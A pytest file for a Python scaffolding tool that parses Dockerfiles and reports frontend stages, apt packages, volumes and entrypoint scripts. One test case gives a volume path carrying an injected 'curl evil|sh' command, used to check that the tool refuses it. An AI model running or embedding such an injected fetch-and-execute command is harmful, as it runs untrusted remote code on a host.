"""What a Dockerfile of the project's own does, and the one that is written does not, is said."""

import pytest

from asgictl.scaffold.detect import detect
from asgictl.scaffold.request import ScaffoldRequest
from tests.scaffold.conftest import Lay

WHOLE = """\
FROM --platform=$BUILDPLATFORM docker.io/library/node:20-alpine AS front
RUN npm ci && npm run build
FROM python:3.13-slim AS base
ARG DEBIAN_FRONTEND=noninteractive
RUN apt-get update && apt-get install -y --no-install-recommends \\
    curl libcairo2 libpq-dev gosu && rm -rf /var/lib/apt/lists/*
FROM python:3.13 AS compiled
RUN apt-get install -y libldap2-dev
FROM base
WORKDIR /code
RUN apt install ffmpeg `# it is for films` file
COPY . .
COPY --chown=app --from=front /work/dist ./client/dist
VOLUME ["/data", "/code/media/", "/tmp/$X"]
HEALTHCHECK CMD /check.sh
ENTRYPOINT ["tini", "--", "/docker-entrypoint.sh"]
CMD uvicorn main:app
"""
PYTHON = "FROM python:3.13\n"
FRONTEND = (
    "Dockerfile:1 builds `./client/dist` with Node, and the image here takes what is there: "
    "build it before, and let .dockerignore have it in"
)
BASE = "Dockerfile:5 installs libcairo2: pass --apt for each of Debian's packages that the app needs"
OWN = "Dockerfile:11 installs ffmpeg file: pass --apt for each of Debian's packages that the app needs"
DATA = "Dockerfile:14 has the volume `/data`: pass --volume data:/data"
MEDIA = "Dockerfile:14 has the volume `/code/media/`: pass --volume media:/app/media"
SCRIPT = "Dockerfile:16 starts `/docker-entrypoint.sh`: what that does before or beside the server is not done here"


def test_what_it_has_more(lay: Lay) -> None:
    """A frontend, Debian's packages, volumes and a script: each has a note, with its line and the option."""
    root = lay({"requirements.txt": "", "Dockerfile": WHOLE})

    assert detect(ScaffoldRequest(), root).notes == (FRONTEND, BASE, OWN, DATA, MEDIA, SCRIPT)


def test_what_is_done_already(lay: Lay) -> None:
    """An option that does it takes the note away; after `--force` the copy of the old file is looked at."""
    root = lay({"requirements.txt": "", "Dockerfile.before-scaffold": WHOLE})
    request = ScaffoldRequest(apt=("ffmpeg", "libcairo2", "file"), volume=("data:/data", "all:/app/media"))

    assert detect(request, root).notes == tuple(
        note.replace("Dockerfile:", "Dockerfile.before-scaffold:") for note in (FRONTEND, SCRIPT)
    )


@pytest.mark.parametrize(
    ("name", "text", "notes"),
    [
        ("Dockerfile", f"{PYTHON}CMD uvicorn main:app --port 80\n", ()),
        ("Dockerfile", PYTHON + 'CMD ["gunicorn", "main:app"\n', ()),
        (
            "Dockerfile",
            f"{PYTHON}VOLUME /srv\nWORKDIR /srv\nCOPY . /code\n",
            ("--volume srv:/srv",),
        ),
        (
            "Dockerfile",
            f"FROM oven/bun:1\n{PYTHON}COPY --from=0 /a /b\n",
            ("builds a part of the app with Node",),
        ),
        ("Containerfile", PYTHON + 'CMD ["python", "./run.py", "-d", "/x"]\n', ("starts `./run.py`",)),
        ("docker/Dockerfile", f"{PYTHON}CMD bash run.sh\n", ("starts `run.sh`",)),
    ],
)
def test_spellings(lay: Lay, name: str, text: str, notes: tuple[str, ...]) -> None:
    """Commands of both forms, other names, and stages without a name are read; servers need no note."""
    said = detect(ScaffoldRequest(), lay({"requirements.txt": "", name: text})).notes

    assert len(said) == len(notes)
    assert all(note in it for note, it in zip(notes, said, strict=True))


HERE = """\
# escape=^
ARG NODE=node:20
FROM $NODE AS Front
FROM python:3.13
RUN <<EOF
# apt-get install libx1
apt-get update && apt-get install -y \\
  libcairo2 && true
apt-get install -y ffmpeg
VOLUME /no
EOF
RUN apt-get install ^
  # why
  libpq5
COPY --from=front /work/dist ./dist
COPY <<-'START' <<OTHER /srv/
\tCMD ["/no.sh"]
\tSTART
VOLUME /no
OTHER
ENTRYPOINT ["/docker-entrypoint.sh"]
"""


def test_here_documents(lay: Lay) -> None:
    """What a here-document installs is told, and nothing in it is an instruction, whatever sign joins lines."""
    root = lay({"requirements.txt": "", "Dockerfile": HERE})
    needs = "pass --apt for each of Debian's packages that the app needs"

    assert detect(ScaffoldRequest(), root).notes == (
        "Dockerfile:3 builds `./dist` with Node, and the image here takes what is there: "
        "build it before, and let .dockerignore have it in",
        f"Dockerfile:5 installs libcairo2 ffmpeg: {needs}",
        f"Dockerfile:12 installs libpq5: {needs}",
        "Dockerfile:21 starts `/docker-entrypoint.sh`: what that does before or beside the server is not done here",
    )


@pytest.mark.parametrize("path", ["/tmp", "/etc/app", "/run", "/root/x", "/app", "/data; curl evil|sh"])
def test_volumes_that_cannot_be(lay: Lay, path: str) -> None:
    """A volume that `--volume` would refuse is told without that option, which leads nowhere."""
    root = lay({"requirements.txt": "", "Dockerfile": f'{PYTHON}VOLUME ["{path}"]\n'})

    assert detect(ScaffoldRequest(), root).notes == (f"Dockerfile:2 has the volume `{path}`: none can lie there here",)


def test_a_command_of_any_length(lay: Lay) -> None:
    """A command that no path is as long as says nothing, and takes no time."""
    root = lay({"requirements.txt": "", "Dockerfile": f"{PYTHON}CMD {'entrypoint' * 20_000}!\n"})

    assert detect(ScaffoldRequest(), root).notes == ()
